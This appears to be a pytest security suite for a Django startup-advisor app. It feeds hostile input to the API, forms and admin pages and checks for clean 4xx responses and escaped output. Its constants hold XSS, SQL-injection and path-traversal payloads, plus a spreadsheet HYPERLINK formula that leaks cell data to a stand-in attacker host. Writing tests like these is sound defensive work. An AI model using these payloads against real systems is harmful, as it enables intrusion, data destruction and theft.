"""Hostile input on every way in: oversized and deeply nested bodies, wrong types in every field,
unicode tricks, SQL and script injection in every text field (then every page that shows it), and
guessed case addresses. The answer is always a 4xx that says what is wrong, never a 5xx, and what
was typed is shown as text everywhere, never run.
"""

from __future__ import annotations

import csv
import io
import json
import uuid

import pytest
from django.urls import reverse
from rest_framework.test import APIClient

from advisor.models import Case
from advisor.partners.models import Partner
from advisor.partners.services.submissions import SUBMISSION_FIELDS
from advisor.services.cases import case_submit
from advisor.services.scoring import case_score
from tests.advisor.admin_support import (  # noqa: F401 (fixtures)
    PASSWORD,
    advisor_client_fixture,
    advisor_fixture,
    case_url,
    change_url,
)
from tests.advisor.conftest import founder_profile
from tests.api.conftest import case_body
from tests.security.html import inspect

pytestmark = pytest.mark.django_db

CASES = "/api/v1/cases/"
BULK = "/api/v1/cases/bulk/"
PROBLEM = "application/problem+json"

SCRIPT = "<script>alert(1)</script>"
IMAGE = '"><img src=x onerror=alert(1)>'
SQL = "Robert'); DROP TABLE advisor_case;--"
SQL_OR = "' OR '1'='1"
FORMULA = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click")'
PAYLOADS = (SCRIPT, IMAGE, SQL, SQL_OR, FORMULA)


@pytest.fixture
def partner(acme) -> APIClient:
    Partner.objects.filter(id=acme.partner.id).update(throttle_rate="100000/min")
    return acme.client()


def assert_problem(response, status: int = 400) -> dict:
    assert response.status_code == status, response.content[:500]
    assert response["Content-Type"] == PROBLEM
    body = response.json()
    assert body["status"] == status
    return body


def post_json(client: APIClient, path: str, raw: bytes | str, **headers):
    return client.generic("POST", path, raw, content_type="application/json", **headers)


def founder_form(**changes) -> dict[str, str]:
    data = {
        "startup_name": "Acme Robotics",
        "sector": "robotics",
        "stage": "seed",
        "customer_type": "manufacturers",
        "market_CN": "80",
        "market_US": "20",
    }
    data.update(changes)
    return data


# --- Oversized bodies ----------------------------------------------------------------------


def test_a_body_over_the_limit_is_a_413_problem_before_it_is_read(partner, settings):
    limit = settings.DATA_UPLOAD_MAX_MEMORY_SIZE
    assert limit == 2_621_440  # set deliberately in settings, with the reason beside it
    body = json.dumps(case_body(startup_name="x" * (limit + 1)))
    for path in (CASES, BULK):
        problem = assert_problem(post_json(partner, path, body), 413)
        assert str(limit) in problem["detail"]
    assert not Case.objects.exists()


def test_an_oversized_founder_form_is_a_400_not_a_500(client, handmade_region_data, settings):
    settings.DATA_UPLOAD_MAX_MEMORY_SIZE = 50_000
    response = client.post("/", founder_form(startup_name="x" * 60_000))
    assert response.status_code == 400
    assert "Content-Security-Policy" in response
    # Too many fields is refused the same way.
    fields = {f"field{n}": "1" for n in range(settings.DATA_UPLOAD_MAX_NUMBER_FIELDS + 1)}
    assert client.post("/", {**founder_form(), **fields}).status_code == 400
    assert not Case.objects.exists()


def test_a_name_too_long_for_the_form_is_an_error_beside_the_field(client, handmade_region_data):
    response = client.post("/", founder_form(startup_name="x" * 10_000))
    assert response.status_code == 200
    assert 'id="id_startup_name-error"' in response.content.decode()
    assert not Case.objects.exists()


# --- Deeply nested JSON --------------------------------------------------------------------


@pytest.mark.parametrize(
    "raw",
    [
        "[" * 100_000 + "]" * 100_000,
        '{"a":' * 50_000 + "1" + "}" * 50_000,
        json.dumps(case_body())[:-1] + ', "markets": ' + "[" * 50_000 + "]" * 50_000 + "}",
        '{"cases": [' + "{" * 0 + "[" * 60_000 + "]" * 60_000 + "]}",
    ],
    ids=["lists", "objects", "in-markets", "in-bulk"],
)
def test_deeply_nested_json_is_a_400_not_a_recursion_error(partner, raw):
    path = BULK if raw.startswith('{"cases"') else CASES
    problem = assert_problem(post_json(partner, path, raw))
    assert problem["errors"]
    assert not Case.objects.exists()


@pytest.mark.parametrize(
    "raw",
    ["", "{", "nul", '{"startup_name": NaN}', '{"startup_name": Infinity}', "\ufeff{}", "[]", "7"],
)
def test_malformed_or_non_standard_json_is_a_400(partner, raw):
    assert_problem(post_json(partner, CASES, raw.encode("utf-8")))


# --- Wrong types in every field ------------------------------------------------------------

WRONG = [
    None,
    True,
    0,
    -1,
    1.5,
    10**400,
    "",
    "x" * 5000,
    [],
    [1, "a"],
    {},
    {"nested": {"deeper": [1]}},
]


@pytest.mark.parametrize("field", sorted(SUBMISSION_FIELDS))
def test_every_api_field_with_every_wrong_type_is_refused_or_accepted_never_a_500(
    partner, handmade_region_data, field
):
    for value in WRONG:
        response = partner.post(CASES, case_body(**{field: value}), format="json")
        assert response.status_code in (202, 400), (field, value, response.content[:300])
        if response.status_code == 400:
            problem = assert_problem(response)
            assert problem["errors"], (field, value)
        # The same in a bulk submission: the case is rejected by index, or all are.
        bulk = partner.post(BULK, {"cases": [case_body(**{field: value})]}, format="json")
        assert bulk.status_code in (202, 400), (field, value, bulk.content[:300])


@pytest.mark.parametrize("value", [*WRONG, "a string", [case_body()] * 1001])
def test_the_bulk_envelope_with_wrong_types_is_a_400(partner, handmade_region_data, value):
    assert_problem(partner.post(BULK, {"cases": value}, format="json"))


@pytest.mark.parametrize(
    "query",
    [
        {"status": "bogus"},
        {"status": SCRIPT},
        {"page": "-1"},
        {"page": "0"},
        {"page": "99999999999999999999999"},
        {"page_size": "abc"},
        {"page_size": "100000"},
        {"batch": "not-a-uuid"},
        {"batch": SQL},
        {"created_after": "yesterday"},
        {"created_before": "9999-99-99T99:99"},
        {"created_after": "\x00"},
    ],
)
def test_garbage_in_the_api_query_is_a_4xx_problem(partner, query):
    response = partner.get(CASES, query)
    assert response.status_code in (400, 404), response.content[:300]
    assert response["Content-Type"] == PROBLEM


@pytest.mark.parametrize(
    "key", ["", " ", "é" * 10, "a\x00b", "k" * 300, "line\nbreak", "\u202ekey", SCRIPT]
)
def test_a_strange_idempotency_key_is_a_400_not_a_500(partner, handmade_region_data, key):
    response = partner.post(CASES, case_body(), format="json", HTTP_IDEMPOTENCY_KEY=key)
    assert response.status_code in (202, 400), response.content[:300]
    if response.status_code == 400:
        assert_problem(response)


FORM_VALUES = ["", " ", "x" * 5000, "-1", "1e999", "NaN", "inf", "0x10", "١٢", "\x00", SCRIPT]


@pytest.mark.parametrize(
    "field",
    [
        "startup_name",
        "sector",
        "stage",
        "customer_type",
        "market_CN",
        "market_OTHER",
        "weight_grants",
        "funding_need_usd",
        "current_location",
    ],
)
def test_every_form_field_with_wrong_values_gets_the_form_back_never_a_500(
    client, handmade_region_data, field
):
    for value in FORM_VALUES:
        response = client.post("/", founder_form(**{field: value}))
        assert response.status_code in (200, 302), (field, value, response.status_code)
        if response.status_code == 200:
            page = response.content.decode()
            assert "error-summary" in page, (field, value)
            assert SCRIPT not in page
    # The same key twice, or as a list, is read as one value.
    response = client.post("/", {**founder_form(), "sector": ["robotics", "ai"]})
    assert response.status_code in (200, 302)


def test_the_what_if_weights_with_wrong_values_never_break_the_case_page(
    client, handmade_region_data
):
    case = case_score(case_id=case_submit(startup_name="Acme", profile=founder_profile()).id)
    for value in [*FORM_VALUES, "1" * 400]:
        for view in ("advisor:case", "advisor:case-what-if"):
            response = client.get(reverse(view, args=[case.id]), {"weight_grants": value})
            assert response.status_code == 200, (view, value)
            assert SCRIPT not in response.content.decode()


# --- Unicode tricks ------------------------------------------------------------------------

REFUSED_NAMES = {
    "nul": "Acme\x00Robotics",
    "control": "Acme\x1bRobotics",
    "newline": "Acme\nRobotics",
    "rtl-override": "Acme\u202efdp.exe",
    "isolate": "Acme\u2066Robotics\u2069",
    "only-invisible": "\u200b\u200d\u2060",
    "too-long": "x" * 201,
    "very-long": "x" * 100_000,
    "combining-flood": "a" + "\u0301" * 1000,
}
KEPT_NAMES = {
    "homoglyph": "\u0410cme R\u043ebotics",  # Cyrillic capital A and small o
    "emoji-zwj": "\U0001f469\u200d\U0001f4bb Labs",
    "hebrew-with-mark": "\u05d7\u05d1\u05e8\u05d4\u200f Labs",
    "chinese": "\u6df1\u5733\u673a\u5668\u4eba",
    "zero-width-inside": "Acme\u200bRobotics",
}


@pytest.mark.parametrize("name", REFUSED_NAMES.values(), ids=REFUSED_NAMES.keys())
def test_names_that_would_display_as_something_else_are_refused_everywhere(
    partner, client, handmade_region_data, name
):
    problem = assert_problem(partner.post(CASES, case_body(startup_name=name), format="json"))
    assert problem["errors"][0]["field"] == "startup_name"
    location = partner.post(CASES, case_body(current_location=name), format="json")
    assert location.status_code == 400
    form = client.post("/", founder_form(startup_name=name))
    assert form.status_code == 200 and 'id="id_startup_name-error"' in form.content.decode()
    assert not Case.objects.exists()


def test_lone_surrogates_which_no_database_can_store_are_a_400(partner, handmade_region_data):
    for body in (
        '{"startup_name": "Acme \\ud800", "sector": "robotics", "stage": "seed", '
        '"customer_type": "manufacturers", "markets": {"CN": 100}}',
        '{"startup_name": "Acme", "sector": "robotics", "stage": "seed", '
        '"customer_type": "manufacturers", "markets": {"CN": 100}, "current_location": "\\udfff"}',
        '{"startup_name": "Acme", "sector": "robotics\\ud800", "stage": "seed", '
        '"customer_type": "manufacturers", "markets": {"CN": 100}}',
        '{"startup_name": "Acme", "sector": "robotics", "stage": "seed", '
        '"customer_type": "manufacturers", "markets": {"C\\ud800N": 100}}',
        '{"startup_name": "Acme", "sector": "robotics", "stage": "seed", '
        '"customer_type": "manufacturers", "markets": {"CN": 100}, "regions": ["\\ud800", "a"]}',
    ):
        assert_problem(post_json(partner, CASES, body))
    assert not Case.objects.exists()


@pytest.mark.parametrize("name", KEPT_NAMES.values(), ids=KEPT_NAMES.keys())
def test_ordinary_text_in_any_script_is_kept_exactly(partner, client, handmade_region_data, name):
    response = partner.post(CASES, case_body(startup_name=name), format="json")
    assert response.status_code == 202, response.content
    case = Case.objects.get(id=response.json()["id"])
    assert case.startup_name == name
    assert partner.get(response["Location"]).json()["startup_name"] == name
    assert name in client.get(reverse("advisor:case", args=[case.id])).content.decode()


# --- SQL and script injection in every text field, on every page that shows it ----------------


def _csv_rows(response) -> list[dict[str, str]]:
    text = b"".join(response.streaming_content).decode("utf-8")
    return list(csv.DictReader(io.StringIO(text)))


def test_injected_text_is_stored_as_typed_and_shown_as_text_everywhere(
    client, partner, advisor_client, handmade_region_data
):
    # Founders type the payloads into the form; a partner sends them through the API.
    ids = []
    for payload in PAYLOADS:
        response = client.post(
            "/", founder_form(startup_name=payload, current_location=payload[:100])
        )
        assert response.status_code == 302, payload
        ids.append(response["Location"].split("/")[2])
        api = partner.post(
            CASES,
            case_body(
                startup_name=f"API {payload}",
                current_location=payload[:100],
                callback_url="https://partner.example/hook?next=%22%3E%3Cscript%3E",
            ),
            format="json",
        )
        assert api.status_code == 202, api.content
        ids.append(api.json()["id"])
    for case_id in ids:
        case_score(case_id=case_id)
    cases = list(Case.objects.filter(id__in=ids))
    assert len(cases) == 2 * len(PAYLOADS)  # DROP TABLE dropped nothing
    assert {case.startup_name for case in cases} >= set(PAYLOADS)

    # An advisor overrides one with a reason that is itself an attack.
    target = Case.objects.get(startup_name=SCRIPT)
    reason = f"{SCRIPT}\n{IMAGE}\n{SQL}"
    override = advisor_client.post(
        case_url(target, "override"),
        {"region": target.result["ranking"][1]["region"], "reason": reason, "apply": "1"},
    )
    assert override.status_code == 302, override.content[:500]
    formula_case = Case.objects.get(startup_name=FORMULA)
    advisor_client.post(
        case_url(formula_case, "override"),
        {"region": formula_case.result["ranking"][1]["region"], "reason": FORMULA, "apply": "1"},
    )

    def assert_shown_as_text(html: str, where: str) -> None:
        assert SCRIPT not in html and "<img src=x" not in html, where
        assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html, where
        findings = inspect(html)
        assert not (findings.inline_scripts or findings.handlers or findings.javascript_urls), where

    # The founder's case page, in English and in Chinese.
    for language in ("en", "zh-hans"):
        client.cookies["django_language"] = language
        page = client.get(reverse("advisor:case", args=[target.id])).content.decode()
        assert_shown_as_text(page, f"case page ({language})")
        assert "&quot;&gt;&lt;img src=x onerror=alert(1)&gt;" in page  # the reason, escaped
    client.cookies["django_language"] = "en"

    # The advisors' list (and its search box, fed the payloads), and the case page.
    changelist = reverse("admin:advisor_case_changelist")
    listing = advisor_client.get(changelist).content.decode()
    assert_shown_as_text(listing, "admin list")
    for payload in PAYLOADS:
        found = advisor_client.get(changelist, {"q": payload})
        assert found.status_code == 200, payload
        html = found.content.decode()
        assert SCRIPT not in html and "<img src=x" not in html
        # Matched as text: the cases that contain it, never every case.
        assert 1 <= found.context["cl"].result_count <= 2, payload
    change = advisor_client.get(change_url(target)).content.decode()
    assert_shown_as_text(change, "admin case page")

    # The API gives the text back as JSON data, exactly as typed.
    document = partner.get(f"{CASES}{Case.objects.get(startup_name=f'API {SCRIPT}').id}/")
    assert document["Content-Type"] == "application/json"
    assert document["X-Content-Type-Options"] == "nosniff"
    assert document.json()["startup_name"] == f"API {SCRIPT}"

    # The CSV export: a cell that a spreadsheet would run as a formula starts with a quote.
    export = advisor_client.post(
        changelist,
        {"action": "export_csv", "_selected_action": [str(case.pk) for case in cases]},
    )
    assert export.status_code == 200
    rows = {row["id"]: row for row in _csv_rows(export)}
    assert rows[str(formula_case.id)]["startup_name"] == "'" + FORMULA
    assert rows[str(formula_case.id)]["review_reason"] == "'" + FORMULA
    assert rows[str(target.id)]["review_reason"] == reason  # not a formula: kept as typed
    for row in rows.values():
        for cell in row.values():
            assert not cell.startswith(("=", "+", "-", "@")), cell


# --- Guessing case addresses ---------------------------------------------------------------


def test_guessed_case_addresses_are_404_and_tell_nothing(
    client, partner, rival, handmade_region_data
):
    case = case_submit(startup_name="Real Robotics", profile=founder_profile())
    assert case.id.version == 4  # random, not a sequence to walk

    bodies = set()
    for guess in (uuid.uuid4(), uuid.uuid4(), uuid.UUID(int=0), uuid.UUID(int=case.id.int ^ 1)):
        for view in ("advisor:case", "advisor:case-status", "advisor:case-what-if"):
            response = client.get(reverse(view, args=[guess]))
            assert response.status_code == 404
            bodies.add((view, response.content))
        assert client.post(reverse("advisor:case-retry", args=[guess])).status_code == 404
    # The page for one wrong guess is the page for any other: nothing to tell them apart.
    assert len(bodies) == 3


@pytest.mark.parametrize(
    "path",
    [
        "/cases/1/",
        "/cases/abc/",
        "/cases/00000000-0000-0000-0000-00000000000g/",
        "/cases/%27%20OR%201=1--/",
        "/cases/..%2F..%2Fadmin/",
        "/cases/%00/",
        "/cases/" + "a" * 5000 + "/",
    ],
)
def test_addresses_that_are_not_case_ids_are_404_not_500(client, db, path):
    assert client.get(path).status_code == 404


def test_a_partner_cannot_tell_another_partners_case_from_a_missing_one(
    partner, rival, handmade_region_data
):
    theirs = rival.client().post(CASES, case_body(), format="json")
    assert theirs.status_code == 202
    foreign = partner.get(f"{CASES}{theirs.json()['id']}/")
    missing = partner.get(f"{CASES}{uuid.uuid4()}/")
    assert foreign.status_code == missing.status_code == 404
    strip = lambda body: {k: v for k, v in body.items() if k != "instance"}  # noqa: E731
    assert strip(foreign.json()) == strip(missing.json())
    for path in ("1/", "abc/", "%27%20OR%201=1--/", "00000000-0000-0000-0000-00000000000g/"):
        assert_problem(partner.get(f"{CASES}{path}"), 404)


@pytest.mark.parametrize("view", ["change", "override", "accept", "rescore", "assign", "history"])
def test_admin_case_addresses_that_are_not_ids_are_never_a_500(advisor_client, view):
    for object_id in ("not-a-uuid", "1", "%27%20OR%201=1--", str(uuid.uuid4())):
        url = f"{reverse('admin:advisor_case_changelist')}{object_id}/{view}/"
        for method in ("get", "post"):
            response = getattr(advisor_client, method)(url)
            assert response.status_code in (302, 403, 404, 405), (view, object_id, method)
